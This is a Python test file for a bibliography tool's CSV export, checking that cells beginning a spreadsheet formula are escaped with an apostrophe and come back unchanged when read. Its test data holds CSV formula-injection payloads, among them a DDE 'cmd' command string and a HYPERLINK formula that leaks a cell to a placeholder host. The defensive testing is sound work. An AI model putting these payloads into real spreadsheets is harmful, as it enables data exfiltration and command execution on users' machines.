"""A table for a spreadsheet program contains no formula, and is read as what it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.papers import paper
from vcmbib.formats import papercsv
from vcmbib.formats.papercsv.formulas import MARK, guarded, is_risky, unguarded
from vcmbib.model.paper import Paper

RISKY = [
    '=HYPERLINK("http://x.example/?"&A1,"see")', "=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(1)",
    "\t=1", "\r=1", "\n=1", " =1", "＝1", "'=1", "''=1", "a;=1", "a\n=1", "a; -1",
]  # fmt: skip


@pytest.mark.parametrize("cell", RISKY)
def test_a_formula_gets_an_apostrophe(cell: str) -> None:
    """Each sign that begins a formula is guarded, also behind `;` and line ends."""
    (safe,) = guarded([cell])

    assert not is_risky(safe)
    assert not any(is_risky(part) for part in safe.replace("\n", ";").split(";") if part)
    assert unguarded([safe]) == [cell]


@pytest.mark.parametrize("cell", ["", "Coding", "'tis", "a-b = c", "1-9", "x@y.z", "a'=b"])
def test_another_cell_is_as_it_was(cell: str) -> None:
    """Apostrophes and signs elsewhere are left alone."""
    assert guarded([cell]) == [cell]
    assert unguarded([cell]) == [cell]


@given(st.text(st.sampled_from("=+-@'; \t\r\nab＝"), max_size=12))
def test_what_is_put_in_is_taken_out(cell: str) -> None:
    """Any cell comes back, and none that is guarded begins a formula."""
    (safe,) = guarded([cell])

    assert unguarded([safe]) == [cell]
    assert not is_risky(safe)


def _evil(text: str) -> Paper:
    return paper(
        "k1", text, publisher=text, model=text, tags=(text,), notes=(text,), year=2020,
        extra=(("=field", text), ("csv-+x", text)),
    )  # fmt: skip


@pytest.mark.parametrize("text", ['=HYPERLINK("x")', "'=1", "-1; =2", "plain"])
def test_a_table_for_a_spreadsheet_is_read_as_it_was(text: str) -> None:
    """No cell of it and no column's name begins a formula; reading gives the same as without."""
    papers = [_evil(text)]
    plain, safe = papercsv.write(papers), papercsv.write(papers, spreadsheet=True)

    rows = list(csv.reader(io.StringIO(safe, newline="")))
    assert rows[0][-1] == MARK
    assert not [cell for row in rows for cell in row if is_risky(cell)]
    assert papercsv.read(safe, "x").records == papercsv.read(plain, "x").records


def test_a_table_of_others_keeps_its_apostrophes() -> None:
    """Without the column that marks ours, an apostrophe is the cell's own."""
    (record,) = papercsv.read("title,year\n'=1,2020\n", "x").records

    assert record.title == "'=1"
